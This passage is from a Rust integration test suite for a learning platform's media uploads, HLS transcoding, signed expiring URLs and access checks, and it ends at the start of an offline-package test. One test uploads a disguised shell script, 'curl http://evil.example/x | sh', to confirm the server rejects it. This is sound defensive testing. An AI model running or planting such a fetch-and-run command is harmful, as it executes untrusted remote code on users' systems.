//! Course media from the outside: resumable uploads with their checks, processing into an HLS
//! ladder, signed playlists and ranges as a phone fetches them, and offline packages, on
//! whichever store the app runs with (the local folder, or S3 when `LMS_TEST_S3_*` is set).
//! Test media are made at test time with ffmpeg's `testsrc` and `sine` sources.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use lms_tests::{Options, TestApp, error_code, eventually};
use sea_orm::ConnectionTrait;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tokio_util::sync::CancellationToken;

const SESSION: &str = "id state purpose partSize partCount expiresAt \
    receivedParts { partNumber sizeBytes } missingParts { partNumber sizeBytes url } \
    material { id state kind contentType sizeBytes }";

fn create_upload() -> String {
    format!(
        "mutation($l: ID!, $n: String!, $t: String!, $s: Int!, $h: String!) {{ \
         createUpload(lessonId: $l, fileName: $n, contentType: $t, size: $s, sha256: $h) {{ {SESSION} }} }}"
    )
}

fn create_cover_upload() -> String {
    format!(
        "mutation($c: ID!, $n: String!, $t: String!, $s: Int!, $h: String!) {{ \
         createCoverUpload(courseId: $c, fileName: $n, contentType: $t, size: $s, sha256: $h) {{ {SESSION} }} }}"
    )
}

fn upload_query() -> String {
    format!("query($id: ID!) {{ upload(id: $id) {{ {SESSION} }} }}")
}

fn complete() -> String {
    format!("mutation($id: ID!) {{ completeUpload(id: $id) {{ {SESSION} }} }}")
}

fn abort() -> String {
    format!("mutation($id: ID!) {{ abortUpload(id: $id) {{ {SESSION} }} }}")
}

const MATERIAL: &str = "query($id: ID!) { material(id: $id) { id kind state failureReason \
    contentType sizeBytes durationMs width height pageCount \
    renditions { name audioOnly bandwidth sizeBytes width height segmentCount } } }";
const REPROCESS: &str = "mutation($id: ID!) { reprocessMaterial(id: $id) { id state } }";
const MEDIA: &str = "query($id: ID!) { course(id: $id) { modules { lessons { id kind media { \
    materialId kind state contentType durationMs width height pageCount hlsUrl progressiveUrl \
    progressiveSizeBytes posterUrl documentUrl documentSizeBytes urlsExpireAt \
    renditions { name audioOnly bandwidth sizeBytes width height playlistUrl } } } } } }";
const OFFLINE: &str = "query($c: ID!, $r: String!) { offlinePackage(courseId: $c, rendition: $r) { \
    rendition totalBytes urlsExpireAt unavailableLessonIds \
    files { path lessonId materialId role sizeBytes sha256 contentType url } } }";

const MIB: usize = 1 << 20;

/// A trainer's draft course with one module, a video lesson and a document lesson.
struct Course {
    admin: String,
    trainer: String,
    course: String,
    video: String,
    document: String,
}

fn id(v: &Value) -> String {
    v.as_str().expect("an id").to_owned()
}

async fn course(app: &TestApp, email: &str, code: &str) -> Course {
    let admin = app.admin().await;
    let (_, trainer) = app.signed_in(&admin, email, &["TRAINER"], None).await;
    let course = id(&app
        .ok(
            Some(&trainer),
            "mutation($i: CreateCourseInput!) { createCourse(input: $i) { id } }",
            json!({"i": {"code": code, "title": "Manajemen Risiko di Puskesmas",
                          "competencyType": "TECHNICAL", "jpCredit": 4}}),
        )
        .await["createCourse"]["id"]);
    let module = id(&app
        .ok(
            Some(&trainer),
            "mutation($c: ID!, $i: CreateModuleInput!) { createModule(courseId: $c, input: $i) { id } }",
            json!({"c": course, "i": {"title": "Modul 1"}}),
        )
        .await["createModule"]["id"]);
    let lesson = |title: &'static str, kind: &'static str| {
        let (app, trainer, module) = (app, trainer.clone(), module.clone());
        async move {
            id(&app
                .ok(
                    Some(&trainer),
                    "mutation($m: ID!, $i: CreateLessonInput!) { createLesson(moduleId: $m, input: $i) { id } }",
                    json!({"m": module, "i": {"title": title, "kind": kind}}),
                )
                .await["createLesson"]["id"])
        }
    };
    let video = lesson("Rekaman sesi 1", "VIDEO").await;
    let document = lesson("Bahan bacaan", "DOCUMENT").await;
    Course {
        admin,
        trainer,
        course,
        video,
        document,
    }
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// A PDF with `pages` pages and a stream of `padding` filler bytes, with a correct xref table.
pub(crate) fn pdf(pages: usize, padding: usize) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let kids: Vec<String> = (0..pages).map(|i| format!("{} 0 R", 3 + i)).collect();
    let mut bodies = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!(
            "<< /Type /Pages /Kids [{}] /Count {pages} >>",
            kids.join(" ")
        )
        .into_bytes(),
    ];
    for _ in 0..pages {
        bodies.push(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec());
    }
    let mut filler = format!("<< /Length {padding} >>\nstream\n").into_bytes();
    filler.extend((0..padding).map(|i| (i * 7919 % 251) as u8));
    filler.extend_from_slice(b"\nendstream");
    bodies.push(filler);
    let mut offsets = Vec::new();
    for (i, body) in bodies.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", bodies.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            bodies.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// Runs ffmpeg with `args` in `dir` and returns the bytes of `dir/output`.
async fn ffmpeg(dir: &Path, args: &[&str], output: &str) -> Vec<u8> {
    let status = tokio::process::Command::new("ffmpeg")
        .args(["-hide_banner", "-loglevel", "error", "-nostdin", "-y"])
        .args(args)
        .arg(output)
        .current_dir(dir)
        .status()
        .await
        .expect("ffmpeg runs (install ffmpeg)");
    assert!(status.success(), "ffmpeg {args:?}");
    tokio::fs::read(dir.join(output)).await.unwrap()
}

/// A 3-second test video with a 440 Hz tone, `size` like `320x240`.
async fn clip(dir: &Path, size: &str) -> Vec<u8> {
    let video = format!("testsrc=size={size}:rate=25:duration=3");
    ffmpeg(
        dir,
        &[
            "-f",
            "lavfi",
            "-i",
            &video,
            "-f",
            "lavfi",
            "-i",
            "sine=frequency=440:duration=3",
            "-c:v",
            "libx264",
            "-preset",
            "ultrafast",
            "-pix_fmt",
            "yuv420p",
            "-c:a",
            "aac",
            "-shortest",
            "-movflags",
            "+faststart",
        ],
        &format!("clip-{size}.mp4"),
    )
    .await
}

/// Opens an upload session; returns the whole response body.
async fn open(
    app: &TestApp,
    token: &str,
    lesson: &str,
    name: &str,
    content_type: &str,
    size: usize,
    sha256: &str,
) -> Value {
    app.gql(
        Some(token),
        &create_upload(),
        json!({"l": lesson, "n": name, "t": content_type, "s": size, "h": sha256}),
    )
    .await
}

/// PUTs each named part of `bytes` to its URL in `session`.
async fn put_parts(app: &TestApp, session: &Value, bytes: &[u8], only: Option<&[u64]>) {
    let part_size = session["partSize"].as_u64().unwrap() as usize;
    for part in session["missingParts"].as_array().unwrap() {
        let n = part["partNumber"].as_u64().unwrap();
        if only.is_some_and(|o| !o.contains(&n)) {
            continue;
        }
        let start = (n as usize - 1) * part_size;
        let end = (start + part_size).min(bytes.len());
        let resp = app
            .client
            .put(part["url"].as_str().unwrap())
            .body(bytes[start..end].to_vec())
            .send()
            .await
            .unwrap();
        assert_eq!(
            resp.status().as_u16(),
            200,
            "part {n}: {}",
            resp.text().await.unwrap_or_default()
        );
    }
}

/// Uploads `bytes` whole and completes; returns the completed session.
pub(crate) async fn upload(
    app: &TestApp,
    token: &str,
    lesson: &str,
    name: &str,
    content_type: &str,
    bytes: &[u8],
) -> Value {
    let body = open(
        app,
        token,
        lesson,
        name,
        content_type,
        bytes.len(),
        &sha256_hex(bytes),
    )
    .await;
    assert!(body.get("errors").is_none(), "{body}");
    let session = body["data"]["createUpload"].clone();
    put_parts(app, &session, bytes, None).await;
    let done = app
        .ok(Some(token), &complete(), json!({"id": session["id"]}))
        .await;
    done["completeUpload"].clone()
}

/// Waits (polling, with a deadline) until the material is ready or failed; returns it.
pub(crate) async fn settled(app: &TestApp, token: &str, material: &str) -> Value {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    loop {
        let body = app
            .gql(Some(token), MATERIAL, json!({"id": material}))
            .await;
        let m = body["data"]["material"].clone();
        if matches!(m["state"].as_str(), Some("READY" | "FAILED")) {
            return m;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the material was not processed in time: {body}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// The `media` of `lesson` in `course`, as its player asks for it.
async fn media(app: &TestApp, token: &str, course: &str, lesson: &str) -> Value {
    let d = app.ok(Some(token), MEDIA, json!({"id": course})).await;
    d["course"]["modules"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|m| m["lessons"].as_array().unwrap().iter())
        .find(|l| l["id"] == lesson)
        .map(|l| l["media"].clone())
        .expect("the lesson")
}

fn object_key(course: &str, upload: &str, ext: &str) -> String {
    format!("courses/{course}/materials/{upload}/original.{ext}")
}

fn with_workers(workers: usize) -> Options {
    Options {
        workers,
        ..Options::default()
    }
}

/// Starts a worker inside a running app (for tests that first look at unprocessed state).
pub(crate) fn start_worker(app: &TestApp) -> CancellationToken {
    let stop = CancellationToken::new();
    gateway::spawn_worker(&app.server.state, 1, &[], stop.clone());
    stop
}

#[tokio::test]
async fn a_document_uploaded_in_parts_resumes_after_a_lost_part_and_serves_exact_ranges() {
    let mut opts = with_workers(1);
    opts.overrides.course = Some(course::CourseSettings {
        part_size: 5 * MIB as u64,
        ..Default::default()
    });
    let app = TestApp::spawn_with(opts).await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-101").await;
    let bytes = pdf(3, 6 * MIB);
    let body = open(
        &app,
        &c.trainer,
        &c.document,
        "modul-1.pdf",
        "application/pdf",
        bytes.len(),
        &sha256_hex(&bytes),
    )
    .await;
    let session = body["data"]["createUpload"].clone();
    assert_eq!(session["state"], "OPEN", "{body}");
    assert_eq!(session["partCount"], 2);
    assert_eq!(session["partSize"], 5 * MIB);
    assert_eq!(
        session["missingParts"][1]["sizeBytes"],
        bytes.len() - 5 * MIB
    );
    let upload_id = session["id"].clone();

    // Part 2 arrives; part 1 is lost when the connection drops.
    put_parts(&app, &session, &bytes, Some(&[2])).await;
    let early = app
        .gql(Some(&c.trainer), &complete(), json!({"id": upload_id}))
        .await;
    assert_eq!(
        error_code(&early).as_deref(),
        Some("BAD_USER_INPUT"),
        "{early}"
    );
    assert_eq!(early["errors"][0]["extensions"]["field"], "parts");

    // Back online: the session says what is missing, with a fresh URL.
    let resumed = app
        .ok(Some(&c.trainer), &upload_query(), json!({"id": upload_id}))
        .await["upload"]
        .clone();
    assert_eq!(resumed["state"], "OPEN");
    assert_eq!(
        resumed["receivedParts"],
        json!([{"partNumber": 2, "sizeBytes": bytes.len() - 5 * MIB}])
    );
    assert_eq!(resumed["missingParts"].as_array().unwrap().len(), 1);
    assert_eq!(resumed["missingParts"][0]["partNumber"], 1);
    put_parts(&app, &resumed, &bytes, None).await;

    let done = app
        .ok(Some(&c.trainer), &complete(), json!({"id": upload_id}))
        .await["completeUpload"]
        .clone();
    assert_eq!(done["state"], "COMPLETED");
    assert_eq!(done["material"]["kind"], "DOCUMENT");
    assert_eq!(done["material"]["sizeBytes"], bytes.len());
    // Completing again answers the same.
    let again = app
        .ok(Some(&c.trainer), &complete(), json!({"id": upload_id}))
        .await;
    assert_eq!(
        again["completeUpload"]["material"]["id"],
        done["material"]["id"]
    );

    let material = settled(&app, &c.trainer, done["material"]["id"].as_str().unwrap()).await;
    assert_eq!(material["state"], "READY", "{material}");
    assert_eq!(material["pageCount"], 3);

    let m = media(&app, &c.trainer, &c.course, &c.document).await;
    assert_eq!(m["kind"], "DOCUMENT");
    assert_eq!(m["documentSizeBytes"], bytes.len());
    let url = m["documentUrl"].as_str().unwrap();
    let part = app
        .client
        .get(url)
        .header("range", "bytes=1000-1999")
        .send()
        .await
        .unwrap();
    assert_eq!(part.status().as_u16(), 206);
    assert_eq!(
        part.headers()
            .get("content-range")
            .and_then(|v| v.to_str().ok()),
        Some(format!("bytes 1000-1999/{}", bytes.len()).as_str())
    );
    assert_eq!(part.bytes().await.unwrap().as_ref(), &bytes[1000..2000]);
    let tail = app
        .client
        .get(url)
        .header("range", "bytes=-64")
        .send()
        .await
        .unwrap();
    assert_eq!(tail.status().as_u16(), 206);
    assert_eq!(
        tail.bytes().await.unwrap().as_ref(),
        &bytes[bytes.len() - 64..]
    );
}

#[tokio::test]
async fn a_checksum_mismatch_is_rejected_and_the_file_removed() {
    let app = TestApp::spawn().await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-102").await;
    let bytes = pdf(1, 1000);
    let wrong = sha256_hex(b"another file");
    let body = open(
        &app,
        &c.trainer,
        &c.document,
        "modul.pdf",
        "application/pdf",
        bytes.len(),
        &wrong,
    )
    .await;
    let session = body["data"]["createUpload"].clone();
    put_parts(&app, &session, &bytes, None).await;
    let r = app
        .gql(Some(&c.trainer), &complete(), json!({"id": session["id"]}))
        .await;
    assert_eq!(error_code(&r).as_deref(), Some("BAD_USER_INPUT"), "{r}");
    assert_eq!(r["errors"][0]["extensions"]["field"], "sha256");
    assert!(
        r["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("SHA-256"),
        "{r}"
    );

    let after = app
        .ok(
            Some(&c.trainer),
            &upload_query(),
            json!({"id": session["id"]}),
        )
        .await;
    assert_eq!(after["upload"]["state"], "REJECTED");
    assert_eq!(after["upload"]["material"], Value::Null);
    let key = object_key(&c.course, session["id"].as_str().unwrap(), "pdf");
    assert_eq!(
        app.server.state.store.head(&key).await.unwrap(),
        None,
        "the file is removed"
    );
    let again = app
        .gql(Some(&c.trainer), &complete(), json!({"id": session["id"]}))
        .await;
    assert_eq!(error_code(&again).as_deref(), Some("CONFLICT"));
    let lesson = app
        .ok(
            Some(&c.trainer),
            "query($l: ID!) { lessonMaterial(lessonId: $l) { id } }",
            json!({"l": c.document}),
        )
        .await;
    assert_eq!(lesson["lessonMaterial"], Value::Null);
}

#[tokio::test]
async fn a_disguised_file_is_rejected_by_its_content() {
    let app = TestApp::spawn().await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-103").await;
    let script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n".to_vec();
    let body = open(
        &app,
        &c.trainer,
        &c.video,
        "rekaman.mp4",
        "video/mp4",
        script.len(),
        &sha256_hex(&script),
    )
    .await;
    let session = body["data"]["createUpload"].clone();
    put_parts(&app, &session, &script, None).await;
    let r = app
        .gql(Some(&c.trainer), &complete(), json!({"id": session["id"]}))
        .await;
    assert_eq!(error_code(&r).as_deref(), Some("BAD_USER_INPUT"), "{r}");
    assert_eq!(r["errors"][0]["extensions"]["field"], "contentType");
    let after = app
        .ok(
            Some(&c.trainer),
            &upload_query(),
            json!({"id": session["id"]}),
        )
        .await;
    assert_eq!(after["upload"]["state"], "REJECTED");
    let key = object_key(&c.course, session["id"].as_str().unwrap(), "mp4");
    assert_eq!(app.server.state.store.head(&key).await.unwrap(), None);

    // A real PDF declared as a video is named for what it is.
    let doc = pdf(1, 10);
    let body = open(
        &app,
        &c.trainer,
        &c.video,
        "rekaman.mp4",
        "video/mp4",
        doc.len(),
        &sha256_hex(&doc),
    )
    .await;
    let session = body["data"]["createUpload"].clone();
    put_parts(&app, &session, &doc, None).await;
    let r = app
        .gql(Some(&c.trainer), &complete(), json!({"id": session["id"]}))
        .await;
    assert_eq!(r["errors"][0]["extensions"]["field"], "contentType", "{r}");
    assert!(
        r["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("a PDF document, not an MP4 video"),
        "{r}"
    );

    // Types a lesson does not take, or nobody takes, are refused before any byte is sent.
    let r = open(
        &app,
        &c.trainer,
        &c.document,
        "x.mp4",
        "video/mp4",
        10,
        &sha256_hex(b"x"),
    )
    .await;
    assert_eq!(r["errors"][0]["extensions"]["field"], "contentType", "{r}");
    let r = open(
        &app,
        &c.trainer,
        &c.video,
        "x.sh",
        "application/x-sh",
        10,
        &sha256_hex(b"x"),
    )
    .await;
    assert_eq!(r["errors"][0]["extensions"]["field"], "contentType", "{r}");
}

#[tokio::test]
async fn a_declared_size_over_the_limit_or_empty_is_refused_before_any_byte() {
    let app = TestApp::spawn().await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-104").await;
    let sha = sha256_hex(b"x");
    let big = open(
        &app,
        &c.trainer,
        &c.video,
        "kuliah.mp4",
        "video/mp4",
        3 << 30,
        &sha,
    )
    .await;
    assert_eq!(error_code(&big).as_deref(), Some("BAD_USER_INPUT"), "{big}");
    assert_eq!(big["errors"][0]["extensions"]["field"], "size");
    assert!(
        big["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("2 GiB"),
        "{big}"
    );
    let empty = open(
        &app,
        &c.trainer,
        &c.video,
        "kuliah.mp4",
        "video/mp4",
        0,
        &sha,
    )
    .await;
    assert_eq!(empty["errors"][0]["extensions"]["field"], "size", "{empty}");
    let bad_sha = open(
        &app,
        &c.trainer,
        &c.video,
        "kuliah.mp4",
        "video/mp4",
        10,
        "abc",
    )
    .await;
    assert_eq!(
        bad_sha["errors"][0]["extensions"]["field"], "sha256",
        "{bad_sha}"
    );
    let row = app
        .server
        .state
        .db
        .query_one_raw(sea_orm::Statement::from_string(
            app.server.state.db.get_database_backend(),
            "SELECT COUNT(*) AS n FROM uploads",
        ))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        row.try_get::<i64>("", "n").unwrap(),
        0,
        "no session was opened"
    );
}

#[tokio::test]
async fn a_trainer_cannot_touch_another_trainers_upload() {
    let app = TestApp::spawn().await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-105").await;
    let (_, other) = app
        .signed_in(&c.admin, "narasumber@dinkes.go.id", &["TRAINER"], None)
        .await;
    let (_, learner) = app
        .signed_in(&c.admin, "asn@dinkes.go.id", &["LEARNER"], None)
        .await;
    let bytes = pdf(1, 100);
    let body = open(
        &app,
        &c.trainer,
        &c.document,
        "modul.pdf",
        "application/pdf",
        bytes.len(),
        &sha256_hex(&bytes),
    )
    .await;
    let session = body["data"]["createUpload"].clone();
    let vars = json!({"id": session["id"]});
    for token in [&other, &learner] {
        for op in [upload_query(), complete(), abort()] {
            let r = app.gql(Some(token), &op, vars.clone()).await;
            assert_eq!(error_code(&r).as_deref(), Some("FORBIDDEN"), "{op}: {r}");
        }
        let r = open(
            &app,
            token,
            &c.document,
            "x.pdf",
            "application/pdf",
            bytes.len(),
            &sha256_hex(&bytes),
        )
        .await;
        assert_eq!(error_code(&r).as_deref(), Some("FORBIDDEN"), "{r}");
        let r = app
            .gql(Some(token), OFFLINE, json!({"c": c.course, "r": "240p"}))
            .await;
        assert_eq!(error_code(&r).as_deref(), Some("FORBIDDEN"), "{r}");
    }
    let r = app.gql(None, &upload_query(), vars.clone()).await;
    assert_eq!(error_code(&r).as_deref(), Some("UNAUTHENTICATED"));

    // Its owner can still use it, and abort it (twice: the second changes nothing).
    put_parts(&app, &session, &bytes, None).await;
    let aborted = app.ok(Some(&c.trainer), &abort(), vars.clone()).await;
    assert_eq!(aborted["abortUpload"]["state"], "ABORTED");
    let again = app.ok(Some(&c.trainer), &abort(), vars.clone()).await;
    assert_eq!(again["abortUpload"]["state"], "ABORTED");
    let r = app.gql(Some(&c.trainer), &complete(), vars).await;
    assert_eq!(error_code(&r).as_deref(), Some("CONFLICT"));
}

#[tokio::test]
async fn an_abandoned_upload_is_aborted_by_a_job_when_it_expires() {
    let clock = kernel::ManualClock::new(chrono::Utc::now());
    let mut opts = with_workers(1);
    opts.overrides.clock = Some(Arc::new(clock.clone()));
    let app = TestApp::spawn_with(opts).await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-106").await;
    let bytes = pdf(1, 100);
    let body = open(
        &app,
        &c.trainer,
        &c.document,
        "modul.pdf",
        "application/pdf",
        bytes.len(),
        &sha256_hex(&bytes),
    )
    .await;
    let session = body["data"]["createUpload"].clone();
    put_parts(&app, &session, &bytes, None).await;

    clock.advance(chrono::Duration::hours(25));
    let (token, _) = app
        .sign_in("widyaiswara@bkpsdm.go.id", lms_tests::PASSWORD)
        .await;
    let vars = json!({"id": session["id"]});
    let query = upload_query();
    let aborted = eventually(Duration::from_secs(20), || {
        let q = app.gql(Some(&token), &query, vars.clone());
        async move { q.await["data"]["upload"]["state"] == "ABORTED" }
    })
    .await;
    assert!(aborted, "the expiry job aborted the session");
    let r = app.gql(Some(&token), &complete(), vars).await;
    assert_eq!(error_code(&r).as_deref(), Some("CONFLICT"));
}

#[tokio::test]
async fn a_video_is_transcoded_into_a_playable_hls_ladder_behind_signed_expiring_urls() {
    let clock = kernel::ManualClock::new(chrono::Utc::now());
    let mut opts = with_workers(0);
    opts.overrides.clock = Some(Arc::new(clock.clone()));
    let app = TestApp::spawn_with(opts).await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-107").await;
    let dir = tempfile::tempdir().unwrap();
    let video = clip(dir.path(), "1280x720").await;
    let done = upload(
        &app,
        &c.trainer,
        &c.video,
        "sesi-1.mp4",
        "video/mp4",
        &video,
    )
    .await;
    let material_id = done["material"]["id"].as_str().unwrap().to_owned();

    // No worker yet: the trainer sees it waiting, and the player gets no URL.
    let waiting = app
        .ok(Some(&c.trainer), MATERIAL, json!({"id": material_id}))
        .await;
    assert_eq!(waiting["material"]["state"], "UPLOADED");
    let m = media(&app, &c.trainer, &c.course, &c.video).await;
    assert_eq!(
        (m["state"].as_str(), m["hlsUrl"].as_str()),
        (Some("UPLOADED"), None)
    );

    let stop = start_worker(&app);
    let material = settled(&app, &c.trainer, &material_id).await;
    assert_eq!(material["state"], "READY", "{material}");
    assert_eq!(material["kind"], "VIDEO");
    assert_eq!(
        (material["width"].as_i64(), material["height"].as_i64()),
        (Some(1280), Some(720))
    );
    let duration = material["durationMs"].as_i64().unwrap();
    assert!((2900..=3200).contains(&duration), "{duration}");
    let names: Vec<&str> = material["renditions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["audio", "240p", "360p", "720p"]);

    let m = media(&app, &c.trainer, &c.course, &c.video).await;
    assert_eq!(m["state"], "READY");
    let renditions = m["renditions"].as_array().unwrap();
    assert_eq!(renditions.len(), 4);
    let data_saver = renditions.iter().find(|r| r["name"] == "240p").unwrap();
    assert_eq!(
        (data_saver["width"].as_i64(), data_saver["height"].as_i64()),
        (Some(426), Some(240))
    );
    assert!(data_saver["sizeBytes"].as_i64().unwrap() > 0);
    let hd = renditions.iter().find(|r| r["name"] == "720p").unwrap();
    assert!(
        hd["sizeBytes"].as_i64() > data_saver["sizeBytes"].as_i64(),
        "{m}"
    );

    // The master playlist lists every rendition; every segment of every variant can be fetched.
    let master_url = m["hlsUrl"].as_str().unwrap();
    assert!(master_url.starts_with(&format!(
        "{}/media/hls/{material_id}/master.m3u8?",
        app.base
    )));
    let master = app.client.get(master_url).send().await.unwrap();
    assert_eq!(master.status().as_u16(), 200);
    assert_eq!(
        master
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok()),
        Some("application/vnd.apple.mpegurl")
    );
    let master_text = master.text().await.unwrap();
    assert!(master_text.starts_with("#EXTM3U\n"), "{master_text}");
    let base = reqwest::Url::parse(master_url).unwrap();
    let mut variants = Vec::new();
    let mut lines = master_text.lines();
    while let Some(line) = lines.next() {
        if let Some(attrs) = line.strip_prefix("#EXT-X-STREAM-INF:") {
            assert!(attrs.contains("BANDWIDTH="), "{line}");
            variants.push((attrs.to_owned(), base.join(lines.next().unwrap()).unwrap()));
        }
    }
    assert_eq!(variants.len(), 4, "{master_text}");
    for res in [
        "RESOLUTION=426x240",
        "RESOLUTION=640x360",
        "RESOLUTION=1280x720",
    ] {
        assert!(
            variants.iter().any(|(a, _)| a.contains(res)),
            "{res}: {master_text}"
        );
    }
    assert!(
        variants
            .iter()
            .any(|(a, _)| a.contains("CODECS=\"mp4a.40.2\"") && !a.contains("RESOLUTION"))
    );
    let mut segments = 0;
    for (_, url) in &variants {
        let resp = app.client.get(url.clone()).send().await.unwrap();
        assert_eq!(resp.status().as_u16(), 200, "{url}");
        let text = resp.text().await.unwrap();
        assert!(text.contains("#EXT-X-ENDLIST"), "{text}");
        for seg in text
            .lines()
            .filter(|l| !l.starts_with('#') && !l.is_empty())
        {
            let bytes = app.client.get(seg).send().await.unwrap();
            assert_eq!(bytes.status().as_u16(), 200, "{seg}");
            let bytes = bytes.bytes().await.unwrap();
            assert_eq!(
                bytes.first(),
                Some(&0x47),
                "an MPEG-TS segment starts with its sync byte"
            );
            segments += 1;
        }
    }
    assert!(segments >= 4);

    // The fallbacks: a progressive MP4 and a poster.
    let mp4 = app
        .client
        .get(m["progressiveUrl"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(mp4.status().as_u16(), 200);
    let mp4 = mp4.bytes().await.unwrap();
    assert_eq!(&mp4[4..8], b"ftyp");
    assert_eq!(
        mp4.len() as i64,
        m["progressiveSizeBytes"].as_i64().unwrap()
    );
    let poster = app
        .client
        .get(m["posterUrl"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(&poster.bytes().await.unwrap()[..3], &[0xFF, 0xD8, 0xFF]);

    // Tampered URLs are refused: another signature, or the signature of another playlist.
    let tampered = format!("{}0", &master_url[..master_url.len() - 1]);
    let tampered = if tampered == master_url {
        format!("{}1", &master_url[..master_url.len() - 1])
    } else {
        tampered
    };
    assert_eq!(
        app.client
            .get(&tampered)
            .send()
            .await
            .unwrap()
            .status()
            .as_u16(),
        403
    );
    let (_, v240) = variants
        .iter()
        .find(|(a, _)| a.contains("426x240"))
        .unwrap();
    let swapped = v240.as_str().replace("/240p/", "/720p/");
    assert_eq!(
        app.client
            .get(&swapped)
            .send()
            .await
            .unwrap()
            .status()
            .as_u16(),
        403
    );
    let unsigned = master_url.split('?').next().unwrap();
    assert_eq!(
        app.client
            .get(unsigned)
            .send()
            .await
            .unwrap()
            .status()
            .as_u16(),
        403
    );

    // Fifteen minutes later the playlist URLs have expired.
    clock.advance(chrono::Duration::minutes(16));
    assert_eq!(
        app.client
            .get(master_url)
            .send()
            .await
            .unwrap()
            .status()
            .as_u16(),
        403
    );
    assert_eq!(
        app.client
            .get(v240.clone())
            .send()
            .await
            .unwrap()
            .status()
            .as_u16(),
        403
    );
    stop.cancel();
}

#[tokio::test]
async fn a_sound_only_recording_of_a_video_lesson_gets_a_sound_only_rendition() {
    let app = TestApp::spawn_with(with_workers(1)).await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-110").await;
    let dir = tempfile::tempdir().unwrap();
    let mp3 = ffmpeg(
        dir.path(),
        &[
            "-f",
            "lavfi",
            "-i",
            "sine=frequency=440:duration=3",
            "-c:a",
            "libmp3lame",
            "-b:a",
            "64k",
        ],
        "sesi.mp3",
    )
    .await;
    let done = upload(&app, &c.trainer, &c.video, "sesi.mp3", "audio/mpeg", &mp3).await;
    assert_eq!(done["material"]["kind"], "AUDIO");
    let material = settled(&app, &c.trainer, done["material"]["id"].as_str().unwrap()).await;
    assert_eq!(material["state"], "READY", "{material}");
    assert_eq!(material["renditions"][0]["name"], "audio");
    assert_eq!(material["renditions"].as_array().unwrap().len(), 1);
    let m = media(&app, &c.trainer, &c.course, &c.video).await;
    assert_eq!(m["posterUrl"], Value::Null);
    let fallback = app
        .client
        .get(m["progressiveUrl"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    let fallback = fallback.bytes().await.unwrap();
    assert_eq!(&fallback[4..8], b"ftyp", "an M4A fallback");
    let master = app
        .client
        .get(m["hlsUrl"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    let text = master.text().await.unwrap();
    assert!(text.contains("CODECS=\"mp4a.40.2\""), "{text}");
}

#[tokio::test]
async fn bad_media_fails_with_a_reason_the_trainer_sees_and_an_admin_can_rerun_it() {
    let app = TestApp::spawn_with(with_workers(1)).await;
    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-108").await;
    // It looks like an MP4 from its first bytes, but nothing after them plays.
    let mut broken = vec![0, 0, 0, 0x18];
    broken.extend_from_slice(b"ftypisom\0\0\x02\0isomiso2");
    broken.extend((0..20_000u32).map(|i| (i * 31 % 256) as u8));
    let done = upload(
        &app,
        &c.trainer,
        &c.video,
        "rusak.mp4",
        "video/mp4",
        &broken,
    )
    .await;
    let material_id = done["material"]["id"].as_str().unwrap().to_owned();
    let material = settled(&app, &c.trainer, &material_id).await;
    assert_eq!(material["state"], "FAILED", "{material}");
    assert!(
        material["failureReason"]
            .as_str()
            .unwrap()
            .contains("could not be read"),
        "{material}"
    );
    let m = media(&app, &c.trainer, &c.course, &c.video).await;
    assert_eq!(
        (m["state"].as_str(), m["hlsUrl"].as_str()),
        (Some("FAILED"), None)
    );

    let r = app
        .gql(Some(&c.trainer), REPROCESS, json!({"id": material_id}))
        .await;
    assert_eq!(error_code(&r).as_deref(), Some("FORBIDDEN"));
    let again = app
        .ok(Some(&c.admin), REPROCESS, json!({"id": material_id}))
        .await;
    assert_eq!(again["reprocessMaterial"]["state"], "UPLOADED");
    let material = settled(&app, &c.trainer, &material_id).await;
    assert_eq!(
        material["state"], "FAILED",
        "the same file fails the same way"
    );
    let r = app
        .gql(Some(&c.admin), REPROCESS, json!({"id": "not-an-id"}))
        .await;
    assert_eq!(error_code(&r).as_deref(), Some("BAD_USER_INPUT"));
}

#[tokio::test]
async fn an_offline_package_lists_every_file_with_its_size_and_hash() {
    let app = TestApp::spawn_with(with_workers(1)).await;
